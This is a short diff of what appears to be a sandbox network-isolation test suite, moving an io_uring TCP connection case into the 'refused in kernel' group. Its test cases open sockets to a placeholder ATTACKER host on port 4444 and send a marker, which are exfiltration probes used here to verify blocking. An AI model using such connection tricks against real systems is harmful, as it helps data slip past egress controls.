@@ -82,7 +82,8 @@ for _ in range(2):
     Attack("TCP fast open by connect", """
 s = socket.socket(); s.setsockopt(socket.IPPROTO_TCP, 30, 1)  # TCP_FASTOPEN_CONNECT
 s.connect((ATTACKER, 4444)); s.sendall(mark); s.recv(10)"""),
-    Attack("io_uring: connection", f"tcp {ATTACKER} 4444", source="io_uring.c", needs=no_io_uring),
+    refused_in_kernel("io_uring: connection", f"tcp {ATTACKER} 4444", source="io_uring.c",
+                      needs=no_io_uring),
     refused_in_kernel("io_uring: datagram", f"udp {ATTACKER} 4444", source="io_uring.c",
                       needs=no_io_uring),
     Attack("IP options", """
